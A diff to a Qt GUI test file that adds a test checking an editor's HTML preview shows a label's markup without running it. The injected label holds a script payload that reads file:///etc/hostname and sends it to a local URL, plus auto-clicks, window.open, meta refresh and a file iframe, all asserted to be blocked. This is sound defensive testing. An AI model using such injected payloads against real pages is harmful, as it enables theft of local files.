@@ -3,11 +3,15 @@
 #include "GuiTestSupport.h"
 
 #include "app/HelpWindow.h"
+#include "app/PreviewPage.h"
 #include "app/ViewState.h"
 #include "editor/ItemGridView.h"
 
 #include <QHeaderView>
+#include <QImage>
+#include <QSignalSpy>
 #include <QTextBrowser>
+#include <QWebEngineScript>
 #include <QWebEngineView>
 
 using namespace GuiTest;
@@ -25,6 +29,13 @@ void addLabel(frmWebForm *form, const QByteArray &text)
     grid.addRow(grid.rows(), "Label");
     grid.setText(grid.rows() - 1, ColLabel, text);
 }
+
+// The preview page's navigation decision, open for a table of cases.
+struct ProbePage : PreviewPage
+{
+    using PreviewPage::acceptNavigationRequest;
+    using PreviewPage::PreviewPage;
+};
 
 } // namespace
 
@@ -45,7 +56,11 @@ private slots:
         m_form = m_frame->activeForm();
     }
 
-    void cleanup() { closeFrame(m_frame); }
+    void cleanup()
+    {
+        closeFrame(m_frame);
+        PreviewPage::setUrlOpener({}); // back to the desktop
+    }
 
     // One preview file per window, replaced on every refresh and deleted with the window.
     // Grid and viewer share a window half and half; with the viewer off the grid fills it, no
@@ -96,6 +111,69 @@ private slots:
              html->contains(QStringLiteral("Preview me"))),
             20000);
         QVERIFY(html->contains(QStringLiteral("type=\"Submit\""), Qt::CaseInsensitive));
+    }
+
+    // A label's HTML is shown, never run: no script, no frame, no redirect, nothing handed
+    // to the desktop, while the picture of an image item still shows.
+    void previewRunsNothing()
+    {
+        QList<QUrl> handedOver;
+        PreviewPage::setUrlOpener([&handedOver](const QUrl &url) { handedOver << url; });
+        const QString picture = QDir::temp().filePath(QStringLiteral("dot.png"));
+        QImage(7, 5, QImage::Format_RGB32).save(picture);
+        addLabel(m_form, "<a id=\"l\" href=\"http://127.0.0.1:9/clicked\">link</a><script>"
+                         "document.title='ran'; document.getElementById('l').click();"
+                         "window.open('http://127.0.0.1:9/opened');"
+                         "fetch('file:///etc/hostname').then(r => r.text())"
+                         ".then(t => { location = 'http://127.0.0.1:9/leak?d=' + t; });</script>"
+                         "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/moved\">"
+                         "<iframe src=\"file:///etc/hostname\"></iframe>");
+        ItemGrid &grid = m_form->grid();
+        grid.addRow(grid.rows(), "Image");
+        grid.setText(grid.rows() - 1, ColDefault, QFile::encodeName(picture));
+        QSignalSpy loaded(m_form->webPreview(), &QWebEngineView::loadFinished);
+        m_form->UpdateForm();
+        QVERIFY(loaded.wait(20000));
+        QTest::qWait(1500); // time for a timer, a refresh or a fetch that should not happen
+        QCOMPARE(handedOver, QList<QUrl>());
+        QCOMPARE(m_form->webPreview()->url(), QUrl::fromLocalFile(m_form->PreviewFile));
+        QVERIFY(m_form->webPreview()->title() != QStringLiteral("ran"));
+        auto width = std::make_shared<QVariant>();
+        QTRY_COMPARE_WITH_TIMEOUT(
+            (m_form->webPreview()->page()->runJavaScript(
+                 QStringLiteral("document.querySelector('input[type=image]').offsetWidth"),
+                 QWebEngineScript::ApplicationWorld,
+                 [width](const QVariant &result) { *width = result; }),
+             width->toInt()),
+            7, 10000);
+
+        // Only the user's click leaves the page, to the desktop's browser.
+        ProbePage page;
+        page.showFile(m_form->PreviewFile);
+        const QUrl shown = QUrl::fromLocalFile(m_form->PreviewFile);
+        const QUrl remote(QStringLiteral("http://127.0.0.1:9/x"));
+        const QUrl local = QUrl::fromLocalFile(QStringLiteral("/etc/hostname"));
+        using P = QWebEnginePage;
+        QVERIFY(page.acceptNavigationRequest(shown, P::NavigationTypeTyped, true));
+        QVERIFY(!page.acceptNavigationRequest(local, P::NavigationTypeTyped, true));
+        QVERIFY(!page.acceptNavigationRequest(remote, P::NavigationTypeRedirect, true));
+        QVERIFY(!page.acceptNavigationRequest(remote, P::NavigationTypeOther, true));
+        QVERIFY(!page.acceptNavigationRequest(shown, P::NavigationTypeTyped, false));
+        QVERIFY(!page.acceptNavigationRequest(local, P::NavigationTypeLinkClicked, true));
+        QCOMPARE(handedOver, QList<QUrl>());
+        QVERIFY(!page.acceptNavigationRequest(remote, P::NavigationTypeLinkClicked, true));
+        QVERIFY(!page.acceptNavigationRequest(remote, P::NavigationTypeFormSubmitted, true));
+        QCOMPARE(handedOver, (QList<QUrl>{remote, remote}));
+
+        using R = QWebEngineUrlRequestInfo;
+        QVERIFY(PreviewPage::allowsRequest(R::ResourceTypeMainFrame, shown));
+        QVERIFY(PreviewPage::allowsRequest(R::ResourceTypeImage, QUrl::fromLocalFile(picture)));
+        QVERIFY(!PreviewPage::allowsRequest(R::ResourceTypeImage, remote));
+        QVERIFY(!PreviewPage::allowsRequest(R::ResourceTypeMainFrame, remote));
+        for (R::ResourceType type :
+             {R::ResourceTypeSubFrame, R::ResourceTypeScript, R::ResourceTypeStylesheet,
+              R::ResourceTypeXhr, R::ResourceTypeMedia, R::ResourceTypeObject})
+            QVERIFY(!PreviewPage::allowsRequest(type, local));
     }
 
     // The placeholder row goes once items exist. Rows are added at the end while it is
